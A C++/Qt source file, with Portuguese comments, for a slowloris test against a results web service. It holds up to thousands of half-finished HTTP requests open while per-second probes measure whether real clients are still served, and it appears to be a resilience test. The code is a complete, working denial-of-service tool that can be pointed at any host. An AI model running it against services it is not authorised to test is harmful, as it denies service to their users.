// Ataque lento (slowloris) ao serviço de resultados: N conexões que mandam o cabeçalho de
// um pedido aos pedaços, um campo a cada intervalo, sem nunca terminá-lo, e se reabrem
// quando o serviço as corta. Enquanto isso, uma sonda por segundo (conexão nova, pedido
// inteiro) mede se um cliente de verdade ainda é atendido.
// Uso: carga_lenta HOST:PORTA [lentas=300] [segundos=30] [intervalo_ms=5000]
#include <QCoreApplication>
#include <QElapsedTimer>
#include <QTcpSocket>
#include <QTimer>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <vector>

namespace {

constexpr int kEsperaDaSondaMs = 5000;
constexpr int kIntervaloDasSondasMs = 1000;
constexpr int kMaisLentas = 5000;

struct SPlacar {
    long cortadas = 0;
    long sondas_200 = 0;
    long sondas_503 = 0;
    long sondas_outras = 0;
    long sondas_sem_resposta = 0;
    std::vector<qint64> esperas_ms;  // das sondas respondidas
};

class CLenta : public QObject {
public:
    CLenta(const QString& host, quint16 porta, SPlacar& placar) : m_host(host), m_porta(porta), m_placar(placar)
    {
        QObject::connect(&m_socket, &QTcpSocket::connected, this, [this] {
            m_socket.write("GET /WebService/PegarUltimoConcurso.aspx?tipo=80 HTTP/1.1\r\nHost: " + m_host.toLatin1() +
                           "\r\n");
        });
        QObject::connect(&m_socket, &QTcpSocket::disconnected, this, [this] {
            ++m_placar.cortadas;
            QTimer::singleShot(100, this, &CLenta::Abrir);
        });
        QObject::connect(&m_socket, &QTcpSocket::errorOccurred, this, [this](QAbstractSocket::SocketError) {
            if (m_socket.state() == QAbstractSocket::UnconnectedState)
                QTimer::singleShot(100, this, &CLenta::Abrir);
        });
        QObject::connect(&m_socket, &QTcpSocket::readyRead, this, [this] { m_socket.readAll(); });
        Abrir();
    }

    void Pingar()
    {
        if (m_socket.state() == QAbstractSocket::ConnectedState)
            m_socket.write("X-Lento: a\r\n");
    }
    bool Aberta() const { return m_socket.state() == QAbstractSocket::ConnectedState; }

private:
    void Abrir()
    {
        if (m_socket.state() == QAbstractSocket::UnconnectedState)
            m_socket.connectToHost(m_host, m_porta);
    }

    QString m_host;
    quint16 m_porta;
    SPlacar& m_placar;
    QTcpSocket m_socket;
};

void Sondar(const QString& host, quint16 porta, SPlacar& placar)
{
    auto* socket = new QTcpSocket;
    auto relogio = std::make_shared<QElapsedTimer>();
    auto recebido = std::make_shared<QByteArray>();
    auto terminada = std::make_shared<bool>(false);
    relogio->start();
    const auto terminar = [=, &placar] {
        if (*terminada)
            return;
        *terminada = true;
        if (recebido->startsWith("HTTP/1.1 200"))
            ++placar.sondas_200;
        else if (recebido->startsWith("HTTP/1.1 503"))
            ++placar.sondas_503;
        else if (recebido->isEmpty())
            ++placar.sondas_sem_resposta;
        else
            ++placar.sondas_outras;
        if (!recebido->isEmpty())
            placar.esperas_ms.push_back(relogio->elapsed());
        socket->deleteLater();
    };
    QObject::connect(socket, &QTcpSocket::connected, socket, [=] {
        socket->write("GET /WebService/PegarUltimoConcurso.aspx?tipo=80 HTTP/1.1\r\nHost: " + host.toLatin1() +
                      "\r\nConnection: close\r\n\r\n");
    });
    QObject::connect(socket, &QTcpSocket::readyRead, socket, [=] {
        *recebido += socket->readAll();
        if (recebido->contains("\r\n\r\n"))
            terminar();
    });
    QObject::connect(socket, &QTcpSocket::disconnected, socket, terminar);
    QObject::connect(socket, &QTcpSocket::errorOccurred, socket, terminar);
    QTimer::singleShot(kEsperaDaSondaMs, socket, terminar);
    socket->connectToHost(host, porta);
}

} // namespace

int main(int argc, char** argv)
{
    QCoreApplication aplicacao(argc, argv);
    if (argc < 2) {
        std::fprintf(stderr, "uso: %s HOST:PORTA [lentas=300] [segundos=30] [intervalo_ms=5000]\n", argv[0]);
        return 2;
    }
    const QString alvo = QString::fromLocal8Bit(argv[1]);
    const QString host = alvo.section(QLatin1Char(':'), 0, 0);
    const quint16 porta = quint16(alvo.section(QLatin1Char(':'), 1, 1).toUInt());
    const int lentas = std::clamp(argc > 2 ? std::atoi(argv[2]) : 300, 1, kMaisLentas);
    const int segundos = std::clamp(argc > 3 ? std::atoi(argv[3]) : 30, 1, 3600);
    const int intervalo = std::clamp(argc > 4 ? std::atoi(argv[4]) : 5000, 10, 60000);

    SPlacar placar;
    std::vector<std::unique_ptr<CLenta>> conexoes;
    for (int i = 0; i < lentas; ++i)
        conexoes.push_back(std::make_unique<CLenta>(host, porta, placar));
    QTimer pingos;
    QObject::connect(&pingos, &QTimer::timeout, [&] {
        for (auto& conexao : conexoes)
            conexao->Pingar();
    });
    pingos.start(intervalo);
    QTimer sondas;
    QObject::connect(&sondas, &QTimer::timeout, [&] { Sondar(host, porta, placar); });
    sondas.start(kIntervaloDasSondasMs);
    QTimer::singleShot(segundos * 1000, &aplicacao, [&] {
        sondas.stop();
        // A última sonda ainda tem a sua espera inteira.
        QTimer::singleShot(kEsperaDaSondaMs + 100, &aplicacao, &QCoreApplication::quit);
    });
    aplicacao.exec();

    const long abertas = std::count_if(conexoes.begin(), conexoes.end(), [](const auto& c) { return c->Aberta(); });
    std::sort(placar.esperas_ms.begin(), placar.esperas_ms.end());
    const qint64 mediana = placar.esperas_ms.empty() ? -1 : placar.esperas_ms[placar.esperas_ms.size() / 2];
    const qint64 maior = placar.esperas_ms.empty() ? -1 : placar.esperas_ms.back();
    std::printf("%d lentas, %ld abertas no fim, %ld cortadas pelo serviço; sondas: %ld com 200, %ld com 503, "
                "%ld outras, %ld sem resposta em %d s; espera das respondidas: mediana %lld ms, maior %lld ms\n",
                lentas, abertas, placar.cortadas, placar.sondas_200, placar.sondas_503, placar.sondas_outras,
                placar.sondas_sem_resposta, kEsperaDaSondaMs / 1000, static_cast<long long>(mediana),
                static_cast<long long>(maior));
    return 0;
}
